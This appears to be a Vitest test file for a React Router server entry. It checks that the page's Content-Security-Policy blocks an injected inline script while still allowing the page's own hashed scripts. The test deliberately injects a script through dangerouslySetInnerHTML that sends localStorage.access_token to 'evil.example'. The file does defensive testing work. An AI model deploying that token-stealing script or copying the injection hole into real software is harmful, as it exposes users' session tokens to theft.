import { createHash } from 'node:crypto'
import { createRequestHandler, Outlet, Scripts, type ServerBuild } from 'react-router'
import { describe, expect, test } from 'vitest'
import handleRequest from './entry.server.tsx'

const STOLEN = 'fetch("https://evil.example/" + localStorage.access_token)'
const hashOf = (code: string) => `'sha256-${createHash('sha256').update(code).digest('base64')}'`

/** What a hole in the escaping would do: markup from a catalogue stands in the page as it is. */
function Holed() {
  return (
    <html lang="id">
      <head>
        <link rel="stylesheet" href="/style.css" precedence="default" />
        <title>Uji</title>
      </head>
      <body>
        {/* biome-ignore lint/security/noDangerouslySetInnerHtml: the hole is the test's subject */}
        <div dangerouslySetInnerHTML={{ __html: `<script>${STOLEN}</script>` }} />
        <Outlet />
        <Scripts />
      </body>
    </html>
  )
}

const entry = { id: 'root', path: '', module: '/assets/root.js', hasLoader: false, hasAction: false }
const build = {
  entry: { module: { default: handleRequest } },
  routes: {
    root: { id: 'root', path: '', module: { default: Holed } },
    page: { id: 'page', parentId: 'root', index: true, module: { default: () => <p>Isi</p> } },
  },
  assets: {
    entry: { module: '/assets/entry.js', imports: [] },
    routes: {
      root: { ...entry, hasClientAction: false, hasClientLoader: false, hasErrorBoundary: false },
      page: {
        ...entry,
        id: 'page',
        parentId: 'root',
        index: true,
        module: '/assets/page.js',
        hasClientAction: false,
        hasClientLoader: false,
        hasErrorBoundary: false,
      },
    },
    url: '/assets/manifest.js',
    version: '1',
  },
  assetsBuildDirectory: 'build/client',
  basename: '/',
  publicPath: '/',
  future: {},
  ssr: true,
  isSpaMode: false,
  prerender: [],
  routeDiscovery: { mode: 'initial' },
} as unknown as ServerBuild

async function open() {
  const response = await createRequestHandler(build, 'production')(new Request('https://toko.example/'))
  return { html: await response.text(), policy: response.headers.get('content-security-policy') ?? '' }
}

describe('F33 a script that came into a page through a hole', () => {
  test('stands in the page and is not allowed to run', async () => {
    const { html, policy } = await open()
    expect(html).toContain(STOLEN)
    expect(policy).not.toContain(hashOf(STOLEN))
    expect(policy).not.toContain("'unsafe-inline' 'sha256")
  })

  test('does not keep the page’s own scripts from running', async () => {
    const { html, policy } = await open()
    const own = [...html.matchAll(/<script\b(?![^>]*\ssrc=)[^>]*>([\s\S]*?)<\/script>/g)]
      .map(([, code = '']) => code)
      .filter((code) => code !== STOLEN && code !== '')
    expect(own.length).toBeGreaterThanOrEqual(2)
    for (const code of own) expect(policy).toContain(hashOf(code))
  })

  test('finds no mark in the page that it could carry: two visits differ in nothing', async () => {
    const [first, second] = [await open(), await open()]
    expect(first).toEqual(second)
    expect(first.html).not.toContain('nonce')
  })
})
